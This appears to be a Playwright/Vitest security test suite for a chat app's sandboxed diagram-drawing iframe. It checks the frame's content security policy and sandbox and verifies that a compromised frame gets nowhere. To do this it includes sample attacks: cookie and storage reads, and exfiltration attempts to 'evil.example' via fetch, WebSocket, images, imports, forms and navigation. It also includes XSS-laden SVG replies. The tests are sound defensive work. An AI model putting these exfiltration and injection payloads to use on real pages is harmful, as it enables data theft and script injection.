import { readFile } from "node:fs/promises";
import type { Locator, Page } from "playwright-core";
import { expect, test } from "vitest";
import { lastAnswer, openNewConversation } from "../../support/chatControls.ts";
import { createWorkspaceFixture } from "../../support/createWorkspaceFixture.ts";
import { recordExecutedScripts } from "../../support/hostilePage.ts";
import { ask, composer, expectEventually, expectVisible } from "../../support/screen.ts";

// Requests to any other server fail a test by themselves: see openPages.ts.
const fixture = createWorkspaceFixture();

/**
 * Opens a new conversation. The frame has its real page and policy, but its script is what `script` returns each time
 * the frame starts.
 */
async function openWithFrameScript(script: () => string, expectedProblems = /(?!)/) {
  const { page } = await fixture.openSignedIn({ expectedProblems });
  const ran = await recordExecutedScripts(page);
  await page.route(/\/drawing\/assets\/index-[^/]*\.js$/, (route) =>
    route.fulfill({
      contentType: "text/javascript",
      headers: { "access-control-allow-origin": "*", "cross-origin-resource-policy": "cross-origin" },
      body: script(),
    }),
  );
  await openNewConversation(page, fixture.url);
  return { page, ran };
}

/** Asks for diagrams with these sources and returns the answer. */
async function askForDiagrams(page: Page, ...sources: string[]): Promise<Locator> {
  const blocks = sources.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``);
  fixture.workspace.models.script({ answer: [...blocks, "The end."].join("\n\n") }, "scripted-large");
  await ask(page, "Draw");
  return lastAnswer(page);
}

/**
 * Builds a frame script that answers every request. `reply` is the source of a function that takes the request's id and
 * source and returns the messages to post.
 */
const buildFrameScript = (reply: string) => `
  addEventListener("message", ({ ports: [port] }) => {
    port.onmessage = async ({ data: { id, source } }) => {
      for (const answer of await (${reply})(id, source)) port.postMessage(answer);
    };
  });
  parent.postMessage("drawing-frame-ready", "*");
`;

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50" width="100" height="50">${inside}</svg>`;
const buildDrawnMessage = (inside: string, title = "") =>
  `{ id, svg: ${JSON.stringify(svg(inside))}, title: ${JSON.stringify(title)}, description: "", isPartial: false }`;

const frames = (page: Page) => page.locator("iframe");

test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
  const attemptsScript = buildFrameScript(`async (id) => {
      const got = [];
      const attempt = async (name, act) => {
        try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
      };
      await attempt("cookie", () => document.cookie !== undefined && "cookie");
      await attempt("localStorage", () => localStorage);
      await attempt("sessionStorage", () => sessionStorage);
      await attempt("indexedDB", () => new Promise((yes, no) => { const o = indexedDB.open("x"); o.onsuccess = yes; o.onerror = no; }).then(() => true));
      await attempt("caches", () => caches.open("x"));
      await attempt("parent", () => parent.document.body);
      await attempt("address", () => parent.location.href);
      await attempt("fetch", () => fetch(${JSON.stringify("/api/session")}).then(() => true));
      await attempt("fetch without cors", () => fetch("https://evil.example/", { mode: "no-cors" }).then(() => true));
      await attempt("beacon", () => fetch("https://evil.example/", { keepalive: true, mode: "no-cors" }).then(() => true));
      await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("wss://evil.example"); s.onopen = yes; s.onerror = no; }).then(() => true));
      await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://evil.example/p.png"; }).then(() => true));
      await attempt("import", () => import("https://evil.example/x.js"));
      await attempt("eval", () => Function("return true")());
      await attempt("inline script", () => { const s = document.createElement("script"); s.textContent = "window.inline = 1"; document.body.append(s); return window.inline; });
      await attempt("frame", () => new Promise((yes, no) => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.framed = 1</scr" + "ipt>"; document.body.append(f); setTimeout(() => window.framed ? yes(1) : no(), 500); }));
      await attempt("window", () => window.open("https://evil.example"));
      await attempt("top", () => { top.location = "https://evil.example"; });
      await attempt("form", () => { const f = document.createElement("form"); f.action = "https://evil.example"; f.target = "_top"; document.body.append(f); f.submit(); });
      await attempt("service worker", () => navigator.serviceWorker.register("/drawing/assets/x.js"));
      return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
    }`);
  // The expected violation is that of the nested frame that the script creates.
  const { page, ran } = await openWithFrameScript(() => attemptsScript, /^Executing inline script violates/);
  const answer = await askForDiagrams(page, "graph LR");
  await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
    "Diagram: reached: ",
  );
  // The frame may try to open a window or to create a nested frame, but neither has an effect.
  expect(ran.filter((what) => what !== "open" && what !== "frame about:srcdoc")).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
  await composer(page).fill("The page is still there");
});

/**
 * The frame's replies, by the source that it was asked to draw, and what the page then shows: the diagram or the
 * source.
 */
const hostileReplies = [
  { source: "script", reply: buildDrawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), shown: "diagram" },
  { source: "styles", reply: buildDrawnMessage("<style>@import '//evil.example/x.css';</style>"), shown: "source" },
  {
    source: "page",
    reply: `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
    shown: "source",
  },
  {
    source: "title",
    reply: buildDrawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"),
    shown: "diagram",
  },
  {
    source: "number of another request",
    reply: `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${buildDrawnMessage("<g/>")}`,
    shown: "diagram",
  },
  {
    source: "other messages",
    reply: `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${buildDrawnMessage("<g/>")}`,
    shown: "diagram",
  },
];

test("hostile pictures are harmless or not shown, and messages of other windows are ignored", async () => {
  const replies = hostileReplies.map(({ source, reply }) => `${JSON.stringify(source)}: [${reply}]`);
  const script = buildFrameScript(`(id, source) => ({ ${replies.join(", ")} })[source]`);
  const { page, ran } = await openWithFrameScript(() => script);
  await page.evaluate(() => {
    const originalPostMessage = window.postMessage.bind(window);
    // Imitate the frame's ready message every millisecond, so that it arrives before the real one.
    setInterval(() => originalPostMessage("drawing-frame-ready", "*"), 1);
    const heardMessages: unknown[] = [];
    Object.assign(window, { heard: heardMessages });
    addEventListener("message", (event) => event.ports.length > 0 && heardMessages.push(event.data));
  });
  const answer = await askForDiagrams(page, ...hostileReplies.map(({ source }) => source));
  const images = answer.getByRole("img", { name: /^Diagram/ });
  await expectEventually(() => images.count()).toBe(4);
  const areComplete = () =>
    images.evaluateAll((all) => all.map((image) => image instanceof HTMLImageElement && image.complete));
  await expectEventually(areComplete).toEqual([true, true, true, true]);
  for (const image of await images.all()) {
    expect(await image.getAttribute("src")).toMatch(new RegExp(`^blob:${fixture.url}/`));
  }
  const unsafeNotice = answer.getByText("This diagram isn’t safe to show. Here is its source.");
  await expectEventually(() => unsafeNotice.count()).toBe(2);
  expect(await answer.getByRole("group", { name: "Code, Mermaid" }).allTextContents()).toEqual(["styles", "page"]);
  // A saved file may be opened as a page.
  for (const button of await answer.getByRole("button", { name: "Download", exact: true }).all()) {
    await button.click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Image (SVG)" }).click(),
    ]);
    const text = await readFile(await download.path(), "utf8");
    expect(text).toMatch(/^<svg /);
    expect(text).not.toMatch(/script|onload|import/);
  }
  expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
  expect(await frames(page).evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
    "allow-scripts",
  ]);
  expect(ran).toEqual([]);
});

test("a frame that navigates or repeatedly reports that it has started loses only its own drawing and gets no extra time", async () => {
  const navigatingScript = `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
     parent.postMessage("drawing-frame-ready", "*");`;
  const endlessScript = `addEventListener("message", ({ ports: [port] }) => {
      port.onmessage = ({ data: { id } }) => setInterval(() => {
        port.postMessage({ id, isStarted: true });
        console.info("reported");
      }, 100);
    });
    parent.postMessage("drawing-frame-ready", "*");`;
  const drawingScript = buildFrameScript(`(id) => [${buildDrawnMessage("<g/>")}]`);
  const scripts = [navigatingScript, endlessScript, drawingScript];
  const { page } = await openWithFrameScript(
    () => scripts.shift() ?? "",
    /^Framing 'https:\/\/evil\.example\/' violates/,
  );
  await page.clock.install();
  const answer = await askForDiagrams(page, "first", "second", "third");
  await expectVisible(answer, "The end.");
  await expectEventually(() => page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
  await page.clock.fastForward(30_000);
  await expectVisible(answer, "The diagram couldn’t be drawn because a part of the app didn’t load.");

  // Each step is shorter than the 8 s that a drawing may take, and comes after a report; all three together are longer.
  for (let step = 0; step < 3; step++) {
    await page.waitForEvent("console", (message) => message.text() === "reported");
    await page.clock.fastForward(3_000);
  }
  await expectVisible(answer, "Drawing this diagram takes too long. Here is its source.");
  await expectEventually(() => answer.getByRole("img", { name: /^Diagram/ }).count()).toBe(1);
  expect(await frames(page).count()).toBe(1);
});

test("only our own page may embed the frame's page, and its files are public", async () => {
  const page = await fetch(`${fixture.url}/drawing.html`);
  const policy = page.headers.get("content-security-policy") ?? "";
  expect(policy).toContain("sandbox allow-scripts");
  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe|https?:|\*/);
  for (const directive of ["default-src 'none'", "frame-ancestors 'self'", "form-action 'none'", "base-uri 'none'"]) {
    expect(policy).toContain(directive);
  }
  expect(page.headers.get("x-frame-options")).toBe("SAMEORIGIN");
  const homeHeaders = (await fetch(fixture.url)).headers;
  expect(homeHeaders.get("content-security-policy")).toMatch(/frame-src 'self';.*frame-ancestors 'none'/);
  expect(homeHeaders.get("access-control-allow-origin")).toBeNull();
  const [address = ""] = /\/drawing\/assets\/[^"]+\.js/.exec(await page.text()) ?? [];
  const script = await fetch(fixture.url + address);
  expect(script.headers.get("access-control-allow-origin")).toBe("*");
  const own = /\/assets\/[^"]+\.js/.exec(await (await fetch(fixture.url)).text())?.[0] ?? "";
  expect((await fetch(fixture.url + own)).headers.get("access-control-allow-origin")).toBeNull();
});
